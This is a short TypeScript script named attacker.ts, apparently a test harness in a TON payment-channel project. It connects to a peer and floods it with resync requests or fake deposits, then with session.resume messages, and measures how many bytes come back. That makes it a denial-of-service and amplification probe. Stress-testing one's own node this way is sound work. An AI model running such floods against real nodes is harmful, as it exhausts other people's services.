// A separate attacker process (so its decryption does not load the victim's event loop).
// usage: node --import tsx attacker.ts <addr> <secretKeyHex|new> <wallet|-> <contract|-> <resyncs> <resumesPerSec> <seconds>
import { Address } from '@ton/core';
import { walletAddress } from '../../src/chain/wallets.js';
import { keyPairFromSeed, newKeyPair } from '../../src/core/signer.js';
import { RawPeer } from './raw2.js';
import { randomBytes } from 'node:crypto';

async function main(): Promise<void> {
const [addr, sk, wallet, contract, resyncsS, rateS, secsS] = process.argv.slice(2) as string[];
const key = sk === 'new' ? newKeyPair() : keyPairFromSeed(Buffer.from(sk!, 'hex').subarray(0, 32));
const w = wallet === '-' ? walletAddress('v5r1', key.publicKey) : Address.parse(wallet!);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const peer = await RawPeer.dial(addr!);
await peer.handshake(key, w);
peer.resume();
await sleep(300);
const resyncs = Number(resyncsS);
if (contract !== '-') for (let i = 0; i < resyncs; i++) peer.data({ type: 'resync.request', contract: contract!, latestStep: 0n });
else {
  const fake = Address.parse(`0:${randomBytes(32).toString('hex')}`).toString();
  for (let i = 0; i < resyncs; i++) peer.data({ type: 'deposit', contract: fake, party: 'A', amount: 1n });
}
await sleep(resyncs > 8 ? 6000 : 1500);
peer.parse = false;
const base = peer.bytesIn;
const rate = Number(rateS);
const t0 = Date.now();
let sent = 0;
const tickMs = 20;
while (Date.now() - t0 < Number(secsS) * 1000 && peer.open) {
  const due = Math.floor(((Date.now() - t0) / 1000) * rate) - sent;
  for (let i = 0; i < due; i++) {
    peer.send({ type: 'session.resume', session: 'ef'.repeat(16), peerSession: '', received: 0, base: resyncs + 1 });
    sent++;
  }
  await sleep(tickMs);
}
const secs = (Date.now() - t0) / 1000;
console.log(JSON.stringify({ resumes: sent, secs, bytesBack: peer.bytesIn - base, MiBps: (peer.bytesIn - base) / secs / 1048576, open: peer.open }));
await peer.stop();
process.exit(0);
}
void main();
